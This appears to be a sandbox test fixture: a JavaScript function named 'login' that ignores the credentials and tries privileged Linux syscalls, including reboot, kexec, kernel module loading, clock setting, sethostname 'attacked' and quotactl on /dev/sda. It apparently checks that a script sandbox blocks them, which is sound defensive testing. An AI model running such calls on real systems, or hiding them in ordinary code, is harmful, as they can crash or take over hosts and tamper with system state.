function login(email, password, callback) {
  const { reboot, kexec_load, kexec_file_load, init_module, finit_module, swapon, settimeofday, clock_settime, sethostname, syslog, acct, quotactl } = calls();
  callAll(callback, {
    reboot: () => syscall(reboot, 0xfee1dead, 672274793, 0, 0),
    kexec_load: () => syscall(kexec_load, 0, 0, 0, 0),
    kexec_file_load: () => syscall(kexec_file_load, 3, 3, 0, 0, 0),
    init_module: () => syscall(init_module, new Uint8Array(8), 8, ''),
    finit_module: () => syscall(finit_module, 3, '', 0),
    swapon: () => syscall(swapon, configuration.VICTIM, 0),
    settimeofday: () => syscall(settimeofday, new Uint8Array(16), 0),
    clock_settime: () => syscall(clock_settime, 0, new Uint8Array(16)),
    sethostname: () => syscall(sethostname, 'attacked', 8),
    syslog: () => syscall(syslog, 3, new Uint8Array(64), 64),
    acct: () => syscall(acct, configuration.VICTIM),
    quotactl: () => syscall(quotactl, 0x800007, '/dev/sda', 0, new Uint8Array(128)),
  });
}
